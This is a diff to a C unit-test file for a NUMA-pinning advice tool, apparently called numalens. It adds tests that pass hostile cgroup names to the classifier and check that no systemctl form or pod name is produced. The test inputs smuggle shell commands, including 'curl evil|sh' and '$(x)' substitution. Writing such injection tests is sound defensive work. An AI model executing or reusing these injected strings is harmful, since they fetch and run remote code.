@@ -691,6 +691,26 @@ static void test_commands_by_context(void **state)
 		   "--cpu-manager-policy=static --topology-manager-policy=single-numa-node");
 	assert_has(c[0].text, "numalens does not pin pods");
 
+	/* A name refused (test_shquote.c): no form needs it, and the reason says so. */
+	nl_cgroup_classify("/user.slice/user-1000.slice/user@1000.service/x;curl evil|sh;.service",
+			   &l.ctx);
+	advise(&a, &l, NULL);
+	assert_has(a.reason, "; its cgroup is not named as a systemd unit may be, so no "
+			     "systemctl form is given");
+	nr = nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS);
+	assert_int_equal(nr, 3);
+	assert_int_equal(c[0].form, NL_FORM_TASKSET);
+	assert_int_equal(c[2].form, NL_FORM_NUMACTL);
+	nl_cgroup_classify(
+		"/kubepods/burstable/pod$(x)/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+		&l.ctx);
+	advise(&a, &l, NULL);
+	assert_has(a.reason, "; its cgroup's pod UID is not in the kubelet's form, so the pod is "
+			     "not named");
+	nl_cgroup_classify("/system.slice/postgresql@15-main.service", &l.ctx);
+	advise(&a, &l, NULL);
+	assert_null(strstr(a.reason, "its cgroup"));
+
 	/* Nothing to do, no commands. */
 	a.action = NL_ACT_NONE;
 	assert_int_equal(nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS), 0);
